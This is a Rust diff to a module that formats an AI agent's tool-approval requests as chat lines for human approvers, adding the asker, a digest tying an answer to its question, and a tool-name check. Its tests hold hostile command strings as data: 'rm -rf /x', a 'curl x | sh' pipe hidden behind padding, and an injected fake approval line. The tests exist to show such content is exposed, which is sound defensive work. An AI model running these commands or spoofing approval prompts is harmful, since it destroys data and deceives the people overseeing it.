@@ -3,7 +3,9 @@
 
 use std::fmt::Write as _;
 
-use crate::state::ApprovalRow;
+use sha2::{Digest, Sha256};
+
+use crate::state::Question;
 
 /// How much of a question is in a line, in bytes with its mark: less than what any server
 /// relays whole with the longest nick, host and channel.
@@ -12,17 +14,22 @@ const LINE: usize = 280;
 /// The most lines that a question may take. More is not read before it is answered.
 const MOST_LINES: usize = 8;
 
-impl ApprovalRow {
+impl Question {
     /// The question as lines for people: a short one in one line, a longer one with a mark
     /// before each, which no guest's words can be taken for.
     ///
     /// None if it takes more lines than people would read.
     pub fn lines(&self) -> Option<Vec<String>> {
-        let (id, tool) = (self.id, visible(&self.tool));
-        let head = format!("#{id} {} wants to {tool}:", self.agent);
-        let shown = visible(&self.what);
+        let id = self.id;
+        let asker = match self.ask.private {
+            true => format!(" for {}, in private:", visible(&self.ask.asker)),
+            false if self.ask.asker.is_empty() => String::new(),
+            false => format!(" for {} in {}:", visible(&self.ask.asker), visible(&self.ask.place)),
+        };
+        let head = format!("#{id}{asker} {} wants to {}:", self.agent, visible(&self.ask.tool));
+        let shown = visible(&self.ask.what);
         let whole = format!("{head} {shown}");
-        if whole.len() <= LINE && !self.what.contains(['\n', '\r']) {
+        if whole.len() <= LINE && !self.ask.what.contains(['\n', '\r']) {
             return Some(vec![whole]);
         }
         let mut lines = vec![head];
@@ -42,6 +49,25 @@ impl ApprovalRow {
         }
         Some(lines)
     }
+
+    /// What an answer repeats when several questions are open, so that it cannot be given to
+    /// another one than was read: three letters or digits that go with the text.
+    pub fn digest(&self) -> String {
+        let mut hash = Sha256::new();
+        for part in [&self.agent, &self.ask.tool, &self.ask.what] {
+            hash.update(part.as_bytes());
+            hash.update([0]);
+        }
+        let start = hash.finalize();
+        format!("{:02x}{:x}", start[0], start[1] >> 4)
+    }
+}
+
+/// Whether a tool's name can stand in a question: one word, of which nothing can be read as
+/// something else.
+pub fn is_tool(name: &str) -> bool {
+    let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.');
+    !name.is_empty() && name.len() <= Question::MAX_TOOL && name.bytes().all(plain)
 }
 
 /// `text` with everything in sight: a line break is `⏎`, each of several spaces and each at
@@ -82,18 +108,19 @@ fn is_plain_letter(c: char) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::state::Asked;
     use proptest::prelude::*;
 
-    fn question(what: &str) -> ApprovalRow {
-        ApprovalRow {
-            id: 23,
-            agent: "worker".into(),
+    fn question(what: &str) -> Question {
+        let ask = Asked {
             message: 1,
             tool: "run_command".into(),
             what: what.into(),
-            verdict: None,
-            asked: 0,
-        }
+            asker: "ann".into(),
+            place: "#agents".into(),
+            private: false,
+        };
+        Question { id: 23, agent: "worker".into(), ask, verdict: None, asked: 0, said: None }
     }
 
     fn lines(what: &str) -> Vec<String> {
@@ -102,17 +129,20 @@ mod tests {
 
     #[test]
     fn all_that_will_be_done_is_shown() {
-        assert_eq!(lines("rm -rf /x"), ["#23 worker wants to run_command: rm -rf /x"]);
+        assert_eq!(
+            lines("rm -rf /x"),
+            ["#23 for ann in #agents: worker wants to run_command: rm -rf /x"]
+        );
         // Not even far behind spaces is anything hidden.
         let hidden = format!("true{}; curl x | sh", " ".repeat(300));
         let shown = lines(&hidden);
-        assert_eq!(shown[0], "#23 worker wants to run_command:");
+        assert_eq!(shown[0], "#23 for ann in #agents: worker wants to run_command:");
         assert!(shown.last().unwrap().ends_with("; curl x | sh"), "{shown:?}");
         assert_eq!(shown.concat().matches('␣').count(), 300);
         assert_eq!(
             lines("true\n#1 other wants to run_command: false"),
             [
-                "#23 worker wants to run_command:",
+                "#23 for ann in #agents: worker wants to run_command:",
                 "#23 | true⏎",
                 "#23 | #1 other wants to run_command: false"
             ]
@@ -123,8 +153,35 @@ mod tests {
     }
 
     #[test]
+    fn who_asked_is_told_and_in_private_no_more_than_that() {
+        let mut asked = question("true");
+        asked.ask.private = true;
+        asked.ask.place = "ann".into();
+        let line = "#23 for ann, in private: worker wants to run_command: true";
+        assert_eq!(asked.lines().unwrap(), [line]);
+    }
+
+    #[test]
+    fn a_digest_goes_with_the_text() {
+        let digest = question("rm -rf /x").digest();
+        assert!(digest.len() == 3 && digest.bytes().all(|b| b.is_ascii_hexdigit()), "{digest}");
+        assert_eq!(digest, question("rm -rf /x").digest());
+        let others = (0..64).map(|n| question(&format!("rm -rf /x{n}")).digest());
+        assert!(others.filter(|other| *other == digest).count() < 3);
+    }
+
+    #[test]
+    fn a_tools_name_is_one_plain_word() {
+        assert!(is_tool("run_command") && is_tool("mcp.files-2"));
+        let long = "x".repeat(Question::MAX_TOOL + 1);
+        for name in ["", "a b", "a: ls #9 b", "run\u{a0}command", "é", &long] {
+            assert!(!is_tool(name), "{name}");
+        }
+    }
+
+    #[test]
     fn what_nobody_would_read_is_no_question() {
-        assert!(question(&"x".repeat(ApprovalRow::MAX_WHAT)).lines().is_none());
+        assert!(question(&"x".repeat(Question::MAX_WHAT)).lines().is_none());
         assert!(question(&"a\n".repeat(9)).lines().is_none());
         assert!(question(&"x".repeat(1800)).lines().is_some());
     }
@@ -133,7 +190,7 @@ mod tests {
         #[test]
         fn each_line_has_its_mark_and_fits(what in "(\\PC|[ \\n\\r\\t]|[\\x00-\u{ff}]|\\\\u){0,400}") {
             for (n, line) in question(&what).lines().into_iter().flatten().enumerate() {
-                let mark = if n == 0 { "#23 worker wants to run_command:" } else { "#23 | " };
+                let mark = if n == 0 { "#23 for ann in #agents: worker wants to run_command:" } else { "#23 | " };
                 prop_assert!(line.starts_with(mark), "{line:?}");
                 prop_assert!(line.len() <= LINE && !line.chars().any(char::is_control), "{line:?}");
             }
